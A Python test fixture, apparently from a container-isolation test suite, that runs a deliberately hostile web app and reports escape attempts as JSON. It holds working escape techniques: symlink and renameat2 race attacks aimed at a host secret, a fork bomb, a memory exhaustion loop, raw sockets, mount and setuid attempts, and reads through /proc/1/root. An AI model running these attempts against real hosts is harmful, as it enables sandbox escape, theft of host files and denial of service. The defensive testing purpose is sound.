"""A hostile app for ContainmentIT: from inside its instance it tries what an attacker would
and answers over HTTP how each attempt went, as JSON {attempt: "ok..." | "refused: ..."}.

"ok" means the attempt worked (for everything but the allowed host port and the writes to its
own directories, a hole in the container). Standard library only.

Endpoints (GET):
  /probe          every attempt below, run afresh
  /symlink-file   app/escape -> $HOST_SECRET (the test asks the DEA's file server for it)
  /symlink-logs   logs/stdout.log -> $HOST_SECRET (the DEA's log streamer reads that name)
  /race?seconds=N app/race is swapped with a symlink to $HOST_SECRET's directory as fast as
                  the kernel allows (renameat2 RENAME_EXCHANGE), for N seconds
  /forkbomb?hold=N  fork until refused; answers the count; the children live N seconds more
  /mark?text=T    writes a line T to its stderr (logs/stderr.log)
  /processes      how many processes it sees
  /hog            allocates memory until the kernel stops it

Environment (set by the test through the API):
  READ_<NAME>=<path>          read (or list) a host path         -> attempt "read <name>"
  CONNECT_<NAME>=<host>:<port> open a TCP connection              -> attempt "connect <name>"
                               (host GATEWAY: the container's default gateway, the host's end)
  HOST_SECRET=<path>          a file on the host only the test knows the content of
  TEST_PID=<pid>              the test JVM's pid on the host
"""
import ctypes
import json
import os
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse

PORT = int(os.environ.get("PORT") or os.environ.get("VCAP_APP_PORT") or "8080")
HOME = os.environ.get("HOME", "/home/vcap")
SECRET = os.environ.get("HOST_SECRET", "/nonexistent")


def outcome(fn):
    try:
        detail = fn()
        return "ok" + (": " + str(detail)[:120] if detail not in (None, "") else "")
    except BaseException as e:  # noqa: BLE001 - every failure is an answer here
        return "refused: " + type(e).__name__ + ": " + str(e)[:160]


def read(path):
    if os.path.isdir(path):
        return "listed " + ",".join(sorted(os.listdir(path))[:8])
    with open(path, "rb") as f:
        return repr(f.read(48))


def write(path):
    with open(path, "w") as f:
        f.write("written by a hostile app\n")
    return path


def gateway():
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(int(fields[2], 16).to_bytes(4, "little"))
    raise OSError("no default route")


def connect(target):
    host, port = target.rsplit(":", 1)
    if host == "GATEWAY":
        host = gateway()
    s = socket.create_connection((host, int(port)), timeout=3)
    try:
        s.settimeout(1)
        try:
            greeting = s.recv(64).decode(errors="replace").strip()
        except socket.timeout:
            greeting = ""
        return "connected to " + host + ":" + port + (" said " + greeting if greeting else "")
    finally:
        s.close()


def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()


def mount_syscall():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    return "mounted"


def run(*cmd):
    r = subprocess.run(list(cmd), capture_output=True, timeout=10)
    if r.returncode != 0:
        raise OSError("exit %d: %s" % (r.returncode, r.stderr.decode(errors="replace").strip()))
    return r.stdout.decode(errors="replace").strip()


def symlink_inside():
    link = os.path.join(HOME, "tmp", "escape-inside")
    if os.path.lexists(link):
        os.unlink(link)
    os.symlink(SECRET, link)
    return read(link)


def host_processes():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    out = []
    for p in pids:
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                out.append(p + ":" + f.read().split(b"\0")[0].decode(errors="replace"))
        except OSError:
            pass
    return out


def signal_test_jvm():
    os.kill(int(os.environ["TEST_PID"]), 0)
    return "signalled"


def probe():
    out = {}
    attempts = {
        "write /usr": lambda: write("/usr/hostile"),
        "write /etc": lambda: write("/etc/hostile"),
        "write /": lambda: write("/hostile"),
        "write /var": lambda: write("/var/hostile"),
        "write /tmp": lambda: write("/tmp/hostile"),
        "write home": lambda: write(os.path.join(HOME, "hostile")),
        "raw socket": raw_socket,
        "packet socket": packet_socket,
        "mount syscall": mount_syscall,
        "mount with the stack's setuid mount binary": lambda: run("mount", "-t", "tmpfs",
                                                                   "none", "/tmp"),
        "setuid root": lambda: os.setuid(0),
        "read /proc/1/root + host secret": lambda: read("/proc/1/root" + SECRET),
        "symlink inside to host secret": symlink_inside,
        "signal test JVM": signal_test_jvm,
    }
    for name, path in os.environ.items():
        if name.startswith("READ_"):
            attempts["read " + name[5:].lower()] = (lambda p=path: read(p))
    connects = {name[8:].lower(): target for name, target in os.environ.items()
                if name.startswith("CONNECT_")}
    for name, fn in attempts.items():
        out[name] = outcome(fn)
    # connections in parallel: a dropped packet costs a timeout each
    with ThreadPoolExecutor(max_workers=6) as pool:
        futures = {name: pool.submit(outcome, lambda t=t: connect(t))
                   for name, t in connects.items()}
        for name, f in futures.items():
            out["connect " + name] = f.result()
    procs = host_processes()
    out["facts"] = {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "pid": os.getpid(),
        "processes": procs,
        "gateway": outcome(gateway),
        "user namespace + mount (no seccomp?)": outcome(
            lambda: run("unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
                        "mount -t tmpfs none /tmp && echo mounted")),
    }
    return out


def symlink_file():
    link = os.path.join(HOME, "app", "escape")
    if os.path.lexists(link):
        os.unlink(link)
    os.symlink(SECRET, link)
    return {"symlink": link + " -> " + SECRET}


def symlink_logs():
    log = os.path.join(HOME, "logs", "stdout.log")
    os.rename(log, log + ".orig")
    os.symlink(SECRET, log)
    return {"symlink": log + " -> " + SECRET}


RENAME_EXCHANGE = 2
AT_FDCWD = -100


def race(seconds):
    """app/race is a directory holding a decoy under the secret's file name; this swaps it
    with a symlink to the secret's directory, atomically, over and over."""
    libc = ctypes.CDLL(None, use_errno=True)
    base = os.path.join(HOME, "app")
    real = os.path.join(base, "race")
    link = os.path.join(base, "race-link")
    os.makedirs(real, exist_ok=True)
    with open(os.path.join(real, os.path.basename(SECRET)), "w") as f:
        f.write("decoy\n")
    if os.path.lexists(link):
        os.unlink(link)
    os.symlink(os.path.dirname(SECRET), link)
    a, b = real.encode(), link.encode()

    def swap():
        deadline = time.monotonic() + seconds
        n = 0
        while time.monotonic() < deadline:
            if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
                raise OSError(ctypes.get_errno(), "renameat2")
            n += 1
        # leave the directory where it was
        if os.path.islink(real):
            libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)

    threading.Thread(target=swap, daemon=True).start()
    return {"racing": real, "file": os.path.basename(SECRET), "seconds": seconds}


def forkbomb(hold):
    """Forks sleepers until the kernel refuses; they are killed after `hold` seconds by a
    thread started first (no thread can be made once the pids limit is reached)."""
    children = []
    release = threading.Event()

    def reaper():
        release.wait(hold)
        for c in children:
            c.kill()
        for c in children:
            c.wait()

    threading.Thread(target=reaper, daemon=True).start()
    error = None
    for _ in range(10000):
        try:
            children.append(subprocess.Popen(["sleep", "600"]))
        except OSError as e:
            error = type(e).__name__ + ": " + str(e)
            break
    return {"forked": len(children), "refused": error}


def mark(text):
    """A line on its stderr (logs/stderr.log), which the DEA streams."""
    print(text, file=sys.stderr, flush=True)
    return {"marked": text}


HOG = []


def hog():
    while True:
        HOG.append(b"x" * (8 * 1024 * 1024))


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        url = urlparse(self.path)
        q = parse_qs(url.query)
        routes = {
            "/probe": probe,
            "/symlink-file": symlink_file,
            "/symlink-logs": symlink_logs,
            "/race": lambda: race(float(q.get("seconds", ["10"])[0])),
            "/forkbomb": lambda: forkbomb(float(q.get("hold", ["5"])[0])),
            "/hog": hog,
            "/mark": lambda: mark(q.get("text", ["mark"])[0]),
            "/processes": lambda: {"count": len(host_processes())},
            "/": lambda: {"hostile": "ready"},
        }
        fn = routes.get(url.path)
        if fn is None:
            self.send_error(404)
            return
        try:
            body, status = json.dumps(fn()).encode(), 200
        except BaseException as e:  # noqa: BLE001
            body, status = json.dumps({"error": type(e).__name__ + ": " + str(e)}).encode(), 500
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, fmt, *args):
        pass


if __name__ == "__main__":
    print("hostile app listening on", PORT, flush=True)
    ThreadingHTTPServer(("0.0.0.0", PORT), Handler).serve_forever()
